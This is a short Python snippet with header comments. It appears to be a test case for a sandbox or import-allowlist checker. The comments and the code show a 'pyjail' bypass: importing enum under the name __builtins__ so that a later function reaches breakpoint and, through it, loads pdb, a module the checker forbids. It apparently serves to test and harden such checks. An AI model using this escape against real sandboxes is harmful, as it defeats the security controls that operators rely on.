# source: CPython 3.11 Objects/frameobject.c _PyEval_BuiltinsFromGlobals (a function's builtins are globals['__builtins__'], a module allowed) ; classic pyjail '__builtins__' replacement write-ups; enum.py 'import builtins as bltns'; sys.breakpointhook imports pdb
# family: builtins swap: 'import M as __builtins__' (import alias is a dunder binding the check does not gate); defs made after it look up bare names in M's globals, which the check reads as unknown plain names
# goal: builtins.breakpoint() reached as enum's 'bltns': imports pdb (a module outside the list; TypeError from pdb.set_trace shows it ran)
import pandas as pd
import enum as __builtins__

def hook():
    return bltns.breakpoint

stop = hook()
pd.Series([0]).map(stop)
